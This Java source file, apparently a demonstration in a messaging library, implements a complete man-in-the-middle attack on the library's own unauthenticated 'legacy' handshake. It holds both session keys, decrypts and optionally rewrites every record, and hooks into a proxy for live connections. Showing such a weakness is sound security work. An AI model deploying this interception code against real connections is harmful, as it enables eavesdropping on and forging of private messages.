package io.securecomm.examples.attacks;

import io.securecomm.crypto.insecure.LegacyHandshake;
import io.securecomm.crypto.insecure.LegacyHandshakeException;
import io.securecomm.crypto.insecure.LegacyTransport;
import io.securecomm.wire.MalformedMessageException;
import io.securecomm.wire.Message;
import io.securecomm.wire.MessageCodec;
import java.util.Objects;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;

/**
 * Man in the middle of the legacy suite, sans-I/O: the attacker plays relay to the client and client to the
 * relay, with one unauthenticated key exchange on each side, so it holds both session keys. Every record is
 * decrypted, shown to an observer, optionally rewritten, and re-encrypted for the other side. Neither end can
 * notice: nothing in the legacy suite binds a public value to anyone.
 *
 * <p>Order: {@link #clientHelloToRelay()}, {@link #readRelayHello(byte[])}, {@link #answerClientHello(byte[])},
 * then {@link #clientToRelay(byte[])} and {@link #relayToClient(byte[])} for each record. Thread-safe (the two
 * directions may be pumped on two threads).
 */
public final class LegacyMitm implements AutoCloseable {
    private final LegacyHandshake towardClient = LegacyHandshake.relay();
    private final LegacyHandshake towardRelay = LegacyHandshake.client();
    private final UnaryOperator<Message> rewrite;
    private final Consumer<String> observer;
    private LegacyTransport clientSide;
    private LegacyTransport relaySide;

    /**
     * Creates the attacker.
     *
     * @param rewrite maps each decrypted message to the one forwarded (return it unchanged to only read)
     * @param observer receives one line per decrypted message, for the demo's output
     */
    public LegacyMitm(UnaryOperator<Message> rewrite, Consumer<String> observer) {
        this.rewrite = Objects.requireNonNull(rewrite, "rewrite");
        this.observer = Objects.requireNonNull(observer, "observer");
    }

    /**
     * The attacker's own client hello, to send to the relay.
     *
     * @return the frame payload
     */
    public synchronized byte[] clientHelloToRelay() {
        return towardRelay.writeClientHello();
    }

    /**
     * Reads the relay's hello: the attacker now shares a key with the relay.
     *
     * @param frame the relay hello
     * @throws LegacyHandshakeException if it is not a legacy relay hello
     */
    public synchronized void readRelayHello(byte[] frame) throws LegacyHandshakeException {
        relaySide = towardRelay.readRelayHello(frame);
    }

    /**
     * Reads the victim client's hello and answers as if the attacker were the relay.
     *
     * @param frame the client's first frame
     * @return the attacker's relay hello, to send to the client
     * @throws LegacyHandshakeException with reason {@code NOT_LEGACY} if the client speaks Noise: then there is
     *     no unauthenticated exchange to take over
     */
    public synchronized byte[] answerClientHello(byte[] frame) throws LegacyHandshakeException {
        byte[] reply = towardClient.readClientHello(frame);
        clientSide = towardClient.split();
        return reply;
    }

    /**
     * Decrypts a client record, rewrites it, and re-encrypts it for the relay.
     *
     * @param record the client's record
     * @return the record to forward to the relay
     */
    public synchronized byte[] clientToRelay(byte[] record) {
        return relayRecord(clientSide.open(record), "client -> relay", relaySide);
    }

    /**
     * Decrypts a relay record, rewrites it, and re-encrypts it for the client.
     *
     * @param record the relay's record
     * @return the record to forward to the client
     */
    public synchronized byte[] relayToClient(byte[] record) {
        return relayRecord(relaySide.open(record), "relay -> client", clientSide);
    }

    private byte[] relayRecord(byte[] plaintext, String direction, LegacyTransport out) {
        byte[] forwarded = plaintext;
        try {
            Message m = MessageCodec.decode(plaintext);
            Message changed = rewrite.apply(m);
            if (changed.equals(m)) {
                observer.accept("read     " + direction + ": " + MessageText.describe(m));
            } else {
                observer.accept("REWROTE  " + direction + ": " + MessageText.describe(m) + "  ==>  "
                        + MessageText.describe(changed));
                forwarded = MessageCodec.encode(changed);
            }
        } catch (MalformedMessageException e) {
            observer.accept("read     " + direction + ": " + plaintext.length + " bytes that are not a message");
        }
        return out.seal(forwarded);
    }

    /** Wipes both session keys. */
    @Override
    public synchronized void close() {
        if (clientSide != null) {
            clientSide.close();
        }
        if (relaySide != null) {
            relaySide.close();
        }
    }

    /**
     * The proxy interceptor that runs this attack on each connection.
     *
     * @param rewrite as for the constructor
     * @param observer as for the constructor; also told when a client does not speak the legacy suite
     * @return the interceptor
     */
    public static InterceptingProxy.Interceptor interceptor(UnaryOperator<Message> rewrite, Consumer<String> observer) {
        return (client, relay, threads) -> {
            try (LegacyMitm mitm = new LegacyMitm(rewrite, observer)) {
                byte[] hello = client.readRequired("the client's hello");
                byte[] answer;
                try {
                    answer = mitm.answerClientHello(hello);
                } catch (LegacyHandshakeException e) {
                    observer.accept("attack failed: " + e.getMessage());
                    throw e;
                }
                relay.write(mitm.clientHelloToRelay());
                mitm.readRelayHello(relay.readRequired("the relay's hello"));
                client.write(answer);
                observer.accept("holding two session keys: one with the client, one with the relay");
                Future<?> back = threads.submit(() -> {
                    InterceptingProxy.pump(relay, client, mitm::relayToClient);
                    return null;
                });
                try {
                    InterceptingProxy.pump(client, relay, mitm::clientToRelay);
                    back.get(5, TimeUnit.SECONDS);
                } finally {
                    back.cancel(true);
                }
            }
        };
    }
}
